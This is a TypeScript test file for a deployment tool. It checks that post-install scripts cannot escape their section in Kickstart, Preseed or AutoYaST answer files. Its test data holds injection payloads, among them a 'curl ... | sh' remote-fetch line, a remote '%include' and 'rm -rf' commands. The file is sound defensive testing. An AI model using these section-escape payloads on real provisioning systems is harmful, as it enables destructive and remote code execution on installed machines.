// Low (issue 20): a profile's post script escaping the answer-file section
// that carries it. Kickstart takes any line whose first non-blank character
// is "%" as its own (an indented "  %end", "%include", "%pre" …) and ran the
// rest outside %post; such a profile is now refused when saved, naming the
// line. Preseed and AutoYaST carry the same script too: a script with their
// own syntax in it renders to an answer file their real readers take, the
// script itself intact (debconf-set-selections and xmllint, as answer-files.test.ts).

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { XMLParser } from 'fast-xml-parser';
import { CATALOG } from '../../../plugin/installers/catalog/catalog.js';
import { renderAnswerData } from '../../../plugin/installers/answers/answer-file.js';
import { validateProfile } from '../../../plugin/installers/profiles/profile.js';
import { answerFor, dataFor } from './answer-machine.js';
import { autoyastProblems, kickstartProblems } from './answer-validators.js';

const WORK = mkdtempSync(join(tmpdir(), 'dploy-post-script-'));
const entry = (kind: string) => CATALOG.find((e) => e.answerKind === kind && e.arch === 'x86_64')!;

function refusal(script: string): string {
  try {
    validateProfile({ name: 'x', distro: 'rocky', release: '9', postScripts: [{ name: 'evil', script }] });
  } catch (err) {
    return (err as Error).message;
  }
  assert.fail(`accepted: ${JSON.stringify(script)}`);
}

test('a post script line that kickstart would read as a section keyword is refused at save, naming the line', () => {
  const attacks: Array<[string, number]> = [
    ['echo ok\n  %end\n%post --nochroot\nrm -rf /mnt/sysimage/etc\n', 2],
    ['\t%end\n', 1],
    ['%include http://203.0.113.9/evil.ks\n', 1],
    ['true\n%pre\ncurl http://203.0.113.9 | sh\n', 2],
    ['true\n %packages\nevil-package\n', 2],
    ['true\n\u00a0%onerror\n', 2],
    // Python's splitlines(), which pykickstart reads with, also breaks lines at these.
    ['echo a\u2028%end\n', 2],
    ['echo a\u0085%end\n', 2],
    ['echo a\r%end\n', 2],
  ];
  for (const [script, line] of attacks) {
    const message = refusal(script);
    assert.match(message, new RegExp(`postScripts\\.0\\.script: line ${line} .* starts with "%": kickstart would read it as a section keyword`), message);
  }
  assert.match(refusal('a\nDPLOY_END\nb\n'), /line 2 is "DPLOY_END"/);
  assert.match(refusal('echo "]]>"\n'), /"]]>" would end the CDATA section/);
  assert.match(refusal('printf "\x1b[31mred"\n'), /control character U\+001B at offset 8/);
  // "%" anywhere but first on its line is ordinary shell.
  validateProfile({ name: 'x', distro: 'rocky', release: '9', postScripts: [{ name: 'ok', script: 'printf "%s\\n" "%end" > /tmp/x\ndate +%F\n' }] });
});

/** Text of every kind of answer-file syntax, none at the start of a line after blanks but a "%". */
const TRICKY =
  [
    'printf "%s\\n" "%end %include" > /root/percent',
    'd-i preseed/late_command string rm -rf /target',
    'echo "<profile><scripts>&amp; ]] >" > /root/xml',
    "echo 'It''s \\ $HOME `id`'",
    '#include /etc/shadow',
    '',
  ].join('\n') + '\n';

test('preseed and AutoYaST carry a script with their own syntax in it intact: their readers take the answer file and see the script once', () => {
  const run = (cmd: string, args: string[]) => spawnSync(cmd, args, { encoding: 'utf8' });
  for (const kind of ['preseed', 'autoyast', 'kickstart']) {
    const data = dataFor(entry(kind), { postScripts: [{ name: 'tricky', script: TRICKY }] });
    const answer = answerFor(data);
    const post = renderAnswerData(data, 'post.sh');
    assert.ok(post.includes(`<<'DPLOY_END'\n${TRICKY}DPLOY_END\n`), `${kind}: post.sh carries the script byte for byte in its here-document`);
    const file = join(WORK, `answer.${kind}`);
    writeFileSync(file, answer);
    if (kind === 'preseed') {
      const check = run('debconf-set-selections', ['--checkonly', file]);
      assert.equal(check.status, 0, check.stderr);
      // The script goes as post.sh, fetched by late_command: none of its lines is in the preseed.
      assert.ok(!answer.includes('rm -rf /target'), "the script's d-i line is not a preseed line");
      assert.equal(answer.match(/^d-i preseed\/late_command /gm)?.length, 1);
    } else if (kind === 'autoyast') {
      const lint = run('xmllint', ['--noout', '--nonet', file]);
      assert.equal(lint.status, 0, lint.stderr);
      assert.deepEqual(autoyastProblems(answer), []);
      const doc = new XMLParser({ cdataPropName: '#cdata' }).parse(answer) as {
        profile: { scripts: { 'chroot-scripts': { script: Array<{ filename: string; source: { '#cdata': string } }> } } };
      };
      const carried = doc.profile.scripts['chroot-scripts'].script.find((s) => s.filename === 'dploy-post.sh')!;
      assert.equal(carried.source['#cdata'], `\n${post}\n`, 'the XML reader gets post.sh back whole');
    } else {
      assert.deepEqual(kickstartProblems(answer), []);
      assert.equal(answer.match(/^\s*%end\b/gm)?.length, 5, "only the template's own %end lines (packages, pre, post, post --nochroot, onerror)");
    }
  }
});
